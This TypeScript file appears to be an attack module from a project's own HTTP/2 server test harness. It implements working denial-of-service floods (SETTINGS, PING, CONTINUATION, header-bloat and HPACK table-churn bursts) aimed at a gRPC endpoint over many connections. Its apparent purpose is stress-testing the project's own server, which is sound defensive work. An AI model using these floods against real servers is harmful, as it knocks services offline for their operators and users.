// Frames that cost the server something and ask for nothing, as fast as it takes them.

import { FRAME, writeFrame } from '../../../bench/http2-frames.ts';
import { writeHeaderBlock } from '../../../src/http2-server/index.ts';
import {
  begin,
  CONTINUATION,
  data,
  many,
  PRIORITY,
  ping,
  setting,
  update,
  whole,
} from '../../http2-server/raw-frames.ts';
import { type Attack, keepOpen, wait } from '../attacker/attack.ts';
import { callBlock, openPeer, type Peer } from '../attacker/http2-peer.ts';
import { tally } from '../attacker/tally.ts';
import type { Target } from '../support/target.ts';

const BURST = 500;

/** The frames of one burst. The first burst may need a stream to refer to. */
type MakeBurst = (peer: Peer, target: Target, burst: number) => Buffer;

const issueBlock = (target: Target, ...more: [string, string][]) =>
  callBlock(target, '/ect.v1.AuthorityService/Issue', 'application/grpc', ...more);
const openOnce = (peer: Peer, target: Target, burst: number) =>
  burst === 0 ? begin(peer.nextId(), issueBlock(target)) : Buffer.alloc(0);

const FLOODS: Readonly<Record<string, MakeBurst>> = {
  SETTINGS: () => many(BURST, (at) => setting(4, 65_535 + at)),
  PING: () => many(BURST, () => ping()),
  PRIORITY: () => many(BURST, (at) => writeFrame(PRIORITY, 0, 2 * at + 1, Buffer.alloc(5))),
  'unknown frames': () => many(BURST, () => writeFrame(0xfe, 0, 0, Buffer.alloc(8))),
  WINDOW_UPDATE: () => many(BURST, () => update(0, 1)),
  'empty DATA': (peer, target, burst) => Buffer.concat([openOnce(peer, target, burst), many(BURST, () => data(1, ''))]),
  'DATA of one byte': (peer, target, burst) =>
    Buffer.concat([openOnce(peer, target, burst), many(100, () => data(1, 'x'))]),
  CONTINUATION: (peer, target, burst) =>
    Buffer.concat([
      burst === 0 ? writeFrame(FRAME.headers, 0, peer.nextId(), issueBlock(target)) : Buffer.alloc(0),
      many(BURST, () => writeFrame(CONTINUATION, 0, 1, Buffer.alloc(0))),
    ]),
  'headers of many tiny fields': (peer, target) => {
    const fields = Array.from({ length: 400 }, (_, at): [string, string] => [`x${at}`, '']);
    return many(20, () => whole(peer.nextId(), issueBlock(target, ...fields)));
  },
  // One byte names a field of the static table.
  'headers of one byte a field': (peer, target) => {
    const block = Buffer.concat([issueBlock(target), Buffer.alloc(12_000, 0x80 | 32)]);
    return many(5, () => whole(peer.nextId(), block));
  },
  'metadata of 15 kB': (peer, target) =>
    many(20, () => whole(peer.nextId(), issueBlock(target, ['x-large', 'x'.repeat(15_000)]))),
  'metadata of 100 kB': (peer, target) => {
    const block = issueBlock(
      target,
      ...Array.from({ length: 7 }, (_, at): [string, string] => [`x-${at}`, 'x'.repeat(15_000)]),
    );
    const [first, ...rest] = Array.from({ length: Math.ceil(block.length / 16_000) }, (_, at) =>
      block.subarray(at * 16_000, (at + 1) * 16_000),
    );
    const id = peer.nextId();
    return Buffer.concat([
      writeFrame(FRAME.headers, 1, id, first ?? Buffer.alloc(0)),
      ...rest.map((part, at) => writeFrame(CONTINUATION, at === rest.length - 1 ? 4 : 0, id, part)),
    ]);
  },
  'a table that is filled anew': (peer, target) =>
    many(20, (at) => {
      // Literals with indexing: each goes into the dynamic table and throws out the one before.
      const value = Buffer.alloc(3000, 97 + (at % 26));
      const field = Buffer.concat([Buffer.from([0x40, 1, 0x79, 0x7f, 0xb9, 0x16]), value]);
      return whole(peer.nextId(), Buffer.concat([issueBlock(target), field]));
    }),
  'paths of unknown methods': (peer, target) =>
    many(50, (at) =>
      whole(
        peer.nextId(),
        writeHeaderBlock([
          [':method', 'GET'],
          [':scheme', 'http'],
          [':path', `/${at}${'a'.repeat(at)}`],
          [':authority', target.host],
        ]),
      ),
    ),
};

/** Options: `flood` (a name of the table), `connections`, `pauseMs` between bursts. */
export const attack: Attack = async ({ target, options }) => {
  const { flood, connections, pauseMs = 0 } = options;
  const make = FLOODS[String(flood)];
  if (make === undefined) throw new TypeError(`there is no flood ${flood}`);
  return (until) =>
    keepOpen(Number(connections), until, async () => {
      const peer = await openPeer(target);
      for (let burst = 0; !until.aborted && !peer.isClosed(); burst++) {
        await peer.push(make(peer, target, burst));
        tally('bursts');
        await wait(Number(pauseMs), until);
      }
    });
};
